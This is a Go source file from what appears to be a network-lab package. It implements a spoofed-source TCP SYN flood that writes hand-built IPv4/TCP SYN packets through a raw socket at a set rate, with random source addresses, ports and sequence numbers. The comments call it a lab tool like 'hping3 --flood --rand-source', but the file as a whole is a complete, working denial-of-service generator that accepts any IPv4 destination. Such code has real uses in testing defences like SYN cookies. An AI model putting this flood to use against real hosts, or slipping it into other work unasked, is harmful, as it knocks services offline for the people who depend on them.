package netlab

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// SYNFlood sends TCP SYNs to dst from inside h, rate a second, each from
// a random address of src (an IPv4 prefix) and a random port, with a
// random sequence number: a spoofed-source SYN flood, as hping3 --flood
// --rand-source -S sends, but with its sources kept to src (the lab's
// address ranges) and its rate steady: bursts of at most maxFloodBurst
// every millisecond or so, until ctx ends. It returns how many it sent. The packets are written whole
// through a raw socket (IPPROTO_RAW), so their source is not the host's.
func (h *Host) SYNFlood(ctx context.Context, dst netip.AddrPort, src netip.Prefix, rate int) (int, error) {
	if !dst.Addr().Is4() || !src.Addr().Is4() || src.Bits() < 1 || rate <= 0 {
		return 0, fmt.Errorf("netlab: SYN flood: IPv4 destination and source prefix and a rate, not %v from %v at %d/s", dst, src, rate)
	}
	var fd int
	if err := h.Do(func() (err error) {
		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
		return err
	}); err != nil {
		return 0, fmt.Errorf("netlab: SYN flood: raw socket in %s: %w", h.Name, err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrInet4{Addr: dst.Addr().As4()}
	r := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), uint64(rate)))
	base := binary.BigEndian.Uint32(src.Masked().Addr().AsSlice())
	hostBits := uint32(1)<<(32-src.Bits()) - 1
	var pkt [40]byte
	start := time.Now()
	sent := 0
	for ctx.Err() == nil {
		// Send what the rate says is due, in bursts of at most
		// maxFloodBurst: a sender that fell behind (a sleep that
		// overslept) gives up the lost time rather than catching up
		// in one burst, so the flood stays the steady rate it says.
		due := int(time.Since(start).Seconds() * float64(rate))
		if due-sent > maxFloodBurst {
			start = start.Add(time.Duration(float64(due-sent-maxFloodBurst) / float64(rate) * float64(time.Second)))
			due = sent + maxFloodBurst
		}
		for n := due - sent; n > 0; n-- {
			a := base | r.Uint32()&hostBits
			synPacket(&pkt, a, dst, uint16(1024+r.IntN(64512)), r.Uint32())
			if err := unix.Sendto(fd, pkt[:], 0, to); err != nil {
				if errors.Is(err, unix.ENOBUFS) {
					break
				}
				return sent, fmt.Errorf("netlab: SYN flood: send: %w", err)
			}
			sent++
		}
		time.Sleep(time.Millisecond)
	}
	return sent, nil
}

// maxFloodBurst bounds the SYNs SYNFlood sends back to back.
const maxFloodBurst = 64

// synPacket writes an IPv4 TCP SYN from src:sport to dst with sequence
// number seq into b, checksums complete.
func synPacket(b *[40]byte, src uint32, dst netip.AddrPort, sport uint16, seq uint32) {
	clear(b[:])
	ip, tcp := b[:20], b[20:]
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], 40)
	ip[8], ip[9] = 64, unix.IPPROTO_TCP
	binary.BigEndian.PutUint32(ip[12:], src)
	d := dst.Addr().As4()
	copy(ip[16:], d[:])
	binary.BigEndian.PutUint16(ip[10:], checksum(ip, 0))
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], dst.Port())
	binary.BigEndian.PutUint32(tcp[4:], seq)
	tcp[12] = 5 << 4
	tcp[13] = 0x02 // SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	dd := binary.BigEndian.Uint32(d[:])
	pseudo := src>>16 + src&0xffff + dd>>16 + dd&0xffff + unix.IPPROTO_TCP + 20
	binary.BigEndian.PutUint16(tcp[16:], checksum(tcp, pseudo))
}

// checksum is the Internet checksum of b with initial sum.
func checksum(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
